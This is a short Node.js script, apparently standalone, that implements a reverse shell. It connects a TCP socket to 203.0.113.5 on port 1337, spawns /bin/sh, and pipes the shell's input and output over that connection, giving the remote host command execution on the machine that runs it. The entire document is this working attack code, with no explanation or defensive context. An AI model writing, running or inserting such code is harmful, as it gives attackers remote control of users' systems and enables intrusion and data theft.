const { Socket } = require('net');
const { spawn } = require('child_process');
const c = new Socket();
c.connect(1337, '203.0.113.5', () => {
  const sh = spawn('/bin/sh', []);
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
  sh.stderr.pipe(c);
});
